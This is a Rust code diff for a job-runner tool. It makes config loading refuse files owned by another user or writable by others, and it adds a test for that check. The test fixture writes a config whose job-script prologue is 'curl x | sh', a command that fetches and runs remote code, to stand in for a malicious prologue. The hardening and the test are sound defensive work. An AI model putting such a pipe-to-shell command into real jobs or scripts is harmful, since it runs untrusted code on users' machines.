@@ -30,11 +30,21 @@ pub struct ConfigFile {
 }
 
 impl ConfigFile {
-    /// Reads and parses the file at `path`.
+    /// Reads and parses the file at `path`. It must be yours (or root's)
+    /// and writable by no one else: a `drover.toml` another user left in a
+    /// shared directory would otherwise put their prologue in your jobs.
     pub fn load(path: &Path) -> Result<ConfigFile, SpecError> {
-        let text = std::fs::read_to_string(path).map_err(|e| SpecError::File {
-            path: path.to_path_buf(),
-            message: format!("cannot read it: {e}"),
+        use crate::private_fs::{read_trusted, FsError, MAX_TRUSTED_BYTES};
+        // `DROVER_USER_CONFIG=/dev/null`: no config, as with other tools.
+        if path == Path::new("/dev/null") {
+            return Self::parse("", path);
+        }
+        let text = read_trusted(path, "config file", MAX_TRUSTED_BYTES).map_err(|e| match e {
+            FsError::Io { cause, .. } => SpecError::File {
+                path: path.to_path_buf(),
+                message: format!("cannot read it: {cause}"),
+            },
+            e => SpecError::Untrusted(e.to_string()),
         })?;
         Self::parse(&text, path)
     }
@@ -147,5 +157,35 @@ impl ConfigSources {
             options = options.overlay(file.pool);
         }
         Ok(options.overlay(super::pool_from_env()?).overlay(flags))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::os::unix::fs::PermissionsExt;
+
+    /// Issue 29 B: a `drover.toml` another user left in a shared directory,
+    /// or one others may change, is refused before its prologue can reach
+    /// a job script; the error names the file and the fix.
+    #[test]
+    fn a_config_file_others_made_or_may_change_is_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(PROJECT_CONFIG);
+        std::fs::write(&path, "[job]\njob-script-prologue = [\"curl x | sh\"]\n").unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
+        assert!(ConfigFile::load(&path).is_ok());
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o664)).unwrap();
+        let e = ConfigFile::load(&path).unwrap_err().to_string();
+        assert!(e.contains("drover.toml") && e.contains("chmod go-w"), "{e}");
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
+        // Owned by someone else (as root, the test can give it away).
+        if nix::unistd::geteuid().is_root() {
+            std::os::unix::fs::chown(&path, Some(4242), None).unwrap();
+            let e = ConfigFile::load(&path).unwrap_err().to_string();
+            assert!(e.contains("uid 4242") && e.contains("not to you"), "{e}");
+        }
+        let missing = ConfigFile::load(&dir.path().join("none.toml")).unwrap_err();
+        assert!(missing.to_string().contains("cannot read it"), "{missing}");
     }
 }
